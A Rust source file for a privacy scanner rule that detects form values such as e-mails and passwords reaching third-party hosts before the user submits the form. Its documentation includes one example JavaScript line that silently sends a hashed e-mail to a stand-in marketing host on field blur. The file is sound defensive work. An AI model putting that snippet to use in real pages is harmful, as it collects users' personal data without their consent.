//! # pii-before-submit
//!
//! A value typed into the page's form (outflow's canary) reached a third
//! party before the user submitted the form.
//!
//! ## What it detects
//!
//! The same search as `credential-exfiltration` (every channel of every
//! request to a host that is not the site itself, WebSocket frames sent,
//! and cookie and storage writes by third-party scripts; every encoding up
//! to three layers), over what the page sent *before* the submitting key
//! press (`Capture.submitted_at_ms`), or during the whole visit when the form
//! was never submitted. Cookie and storage writes count by the time the
//! scanner received their record, which is never earlier than the write;
//! writes of unknown time count here only when the form was never
//! submitted.
//!
//! ## Why it matters
//!
//! A user who types an address and then changes their mind has not agreed
//! to send anything. The Leaky Forms study (USENIX Security 2022) found
//! e-mail addresses collected before submission on 1,844 (EU) and 2,950
//! (US) of the top 100,000 sites, mostly by marketing and session-replay
//! scripts that read fields as they are typed.
//!
//! ## How it decides
//!
//! - Severity by kind: a password **critical**, an e-mail address or phone
//!   number **high**, a user name or name **medium**; a value only written
//!   to storage by a third-party script one step lower.
//! - A value with its last one or two characters missing counts: a script
//!   that reads the field on each key press sends the value before typing
//!   ends.
//! - Confidence **high**: the canary is unique to the scan.
//!
//! ## Known false positives
//!
//! Services the site itself runs on another registrable domain (a login
//! sub-system, an e-mail validation API it chose) are third parties by
//! host: pass them with `--first-party`.
//!
//! ## Example
//!
//! ```js
//! email.addEventListener("blur", () =>
//!   fetch("https://api.marketing.example/lead?e=" + md5(email.value.trim().toLowerCase())));
//! ```

use outflow_model::Finding;

use crate::canary::leaks::{find_leaks, findings};
use crate::facts::Facts;
use crate::rule::Check;

crate::rules::declare_rule! {
    /// The rule; see the module documentation.
    pub struct PiiBeforeSubmit;
    slug: "pii-before-submit",
    source: "pii_before_submit.rs",
    thresholds: [],
}

impl Check for PiiBeforeSubmit {
    fn check(&self, facts: &Facts<'_>) -> Vec<Finding> {
        let Some(capture) = facts.capture else {
            return Vec::new();
        };
        let submitted_at = capture.submitted_at_ms;
        let leaks = find_leaks(facts)
            .into_iter()
            .filter(|l| match (l.time_ms, submitted_at) {
                (Some(t), Some(s)) => t < s,
                (Some(_), None) => true,
                (None, s) => s.is_none(),
            })
            .collect();
        findings(
            Self::SLUG,
            facts,
            leaks,
            "before the form was submitted",
            "before the form was submitted (or without it ever being submitted)",
        )
    }
}
